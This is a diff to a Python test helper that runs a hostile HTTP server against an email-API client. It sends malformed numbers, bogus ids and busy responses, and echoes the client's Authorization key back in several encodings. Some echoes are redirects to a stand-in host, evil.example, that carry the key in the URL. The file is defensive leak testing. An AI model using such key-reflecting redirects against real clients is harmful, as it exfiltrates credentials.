@@ -2,7 +2,10 @@
 certificates when asked) that reads each request in full, records it, then answers with a
 scripted behaviour nothing in http.server would produce: a status line dripped a byte at a
 time, headers without end, a body without end, garbage, a Content-Length that lies, a drop,
-only ``1xx`` answers, status 999, an HTML page with 200, a redirect.
+only ``1xx`` answers, status 999, an HTML page with 200, a redirect; numbers built to break a
+reader (a Content-Length of 5000 digits, a recipient error code "²"), ids that are not ids, a
+Retry-After of minutes; and (``ECHOES``) answers that carry the request's own key back, plain,
+JSON-escaped, URL-encoded and base64.
 
 Bounded in time: every behaviour stops when the peer stops, and the peer stops itself after
 ``lifetime`` seconds whatever the client does. ``requests`` records what arrived (method, path,
@@ -12,6 +15,7 @@ Authorization header went.
 
 from __future__ import annotations
 
+import base64
 import socket
 import ssl
 import threading
@@ -24,7 +28,7 @@ import trustme
 
 from support.net import tls_server_context
 
-__all__ = ["BEHAVIOURS", "HostilePeer", "Seen"]
+__all__ = ["BEHAVIOURS", "ECHOES", "HostilePeer", "Seen"]
 
 _OK_JSON = b'{"results":{"id":"5555","total_accepted_recipients":1,"total_rejected_recipients":0}}'
 
@@ -53,6 +57,18 @@ def _status(code: int, body: bytes, *headers: str) -> bytes:
 
 
 _GOOD = _status(200, _OK_JSON, "Content-Type: application/json")
+
+
+def _rcpt_error(code: str) -> bytes:
+    doc = (
+        '{"results":{"id":"6666","total_accepted_recipients":0,"total_rejected_recipients":1,'
+        f'"rcpt_to_errors":[{{"code":"{code}","message":"recipient refused"}}]}}}}'
+    )
+    return _status(200, doc.encode("utf-8"), "Content-Type: application/json")
+
+
+def _with_id(raw: str) -> bytes:
+    return _status(200, b'{"results":{"id":' + raw.encode() + b"}}")
 
 # name -> (what to send: bytes, or an iterator of pieces (endless ones are generators, never
 #          lists), seconds between pieces). HANG_UP: close after it; others but "good" hold on.
@@ -99,8 +115,69 @@ BEHAVIOURS: dict[str, Callable[[], tuple[Iterator[bytes] | bytes, float]]] = {
     ),
     "status_303": lambda: (_status(303, b"", "Location: /api/v1/transmissions/5555"), 0),
     "silent": lambda: (iter(()), 0),  # reads the request, says nothing, holds on
+    # numbers no int() takes: 5000 digits (over Python's 4300-digit limit), a superscript digit
+    "length_5000_digits": lambda: (b"HTTP/1.1 200 OK\r\nContent-Length: " + b"9" * 5000
+                                   + b"\r\n\r\n" + _OK_JSON, 0),
+    "length_5000_zeros": lambda: (b"HTTP/1.1 200 OK\r\nContent-Length: " + b"0" * 4999
+                                  + b"5\r\n\r\nhello", 0),
+    "rcpt_code_superscript": lambda: (_rcpt_error("\u00b2"), 0),
+    "rcpt_code_5000_digits": lambda: (_rcpt_error("1" * 5000), 0),
+    # a 2xx whose id is not a transmission's id
+    "id_true": lambda: (_with_id("true"), 0),
+    "id_object": lambda: (_with_id("{}"), 0),
+    "id_empty": lambda: (_with_id('""'), 0),
+    "id_zero": lambda: (_with_id("0"), 0),
+    "id_float": lambda: (_with_id("1e999"), 0),
+    # the API clearly says "not now", and asks for minutes, or for a few seconds
+    "busy_299": lambda: (_status(503, b"{}", "Retry-After: 299"), 0),
+    "busy_20": lambda: (_status(503, b"{}", "Retry-After: 20"), 0),
 }
-HANG_UP = {"drop", "garbage", "status_999", "status_600", "html_200", "json_200_no_id"}
+HANG_UP = {"drop", "garbage", "status_999", "status_600", "html_200", "json_200_no_id",
+           "length_5000_zeros", "rcpt_code_superscript", "rcpt_code_5000_digits", "id_true",
+           "id_object", "id_empty", "id_zero", "id_float", "busy_299", "busy_20"}  # fmt: skip
+
+
+def _key_of(seen: Seen) -> str:
+    return seen.headers.get("authorization", "")
+
+
+def _u_escaped(text: str) -> str:
+    return "".join(f"\\u{ord(c):04x}" for c in text)
+
+
+def _pct(text: str) -> str:
+    return "".join(f"%{b:02X}" for b in text.encode())
+
+
+def _b64(text: str) -> str:
+    return base64.b64encode(f"api:{text}".encode()).decode()
+
+
+def _echo_errors(seen: Seen) -> bytes:
+    key = _key_of(seen)
+    doc = (
+        f'{{"errors":[{{"message":"you sent {_u_escaped(key)}",'
+        f'"description":"see https://evil.example/?k={_pct(key)} or Basic {_b64(key)}",'
+        f'"code":"{_u_escaped(key[:3])}{key[3:]}"}}]}}'
+    )
+    return _status(422, doc.encode("ascii"), "Content-Type: application/json")
+
+
+# name -> the answer, made from the request: the key (its Authorization header) echoed back.
+# The peer hangs up after each.
+ECHOES: dict[str, Callable[[Seen], bytes]] = {
+    "echo_location": lambda seen: _status(
+        307, b"", f"Location: http://evil.example/?k={_key_of(seen)}"
+    ),
+    "echo_location_pct": lambda seen: _status(
+        307, b"", f"Location: http://evil.example/?k={_pct(_key_of(seen))}"
+    ),
+    "echo_errors": _echo_errors,
+    # a 2xx without an id whose raw body (shown as is) holds the key JSON-escaped
+    "echo_200_no_id": lambda seen: _status(
+        200, f'{{"results":{{}},"note":"{_u_escaped(_key_of(seen))}"}}'.encode()
+    ),
+}
 
 
 class HostilePeer:
@@ -198,6 +275,9 @@ class HostilePeer:
                     return
                 with self.lock:
                     self.requests.append(seen)
+                if behaviour in ECHOES:
+                    sock.sendall(ECHOES[behaviour](seen))
+                    return
                 if not self._answer(sock, behaviour):
                     return
         except (OSError, ssl.SSLError, ValueError):
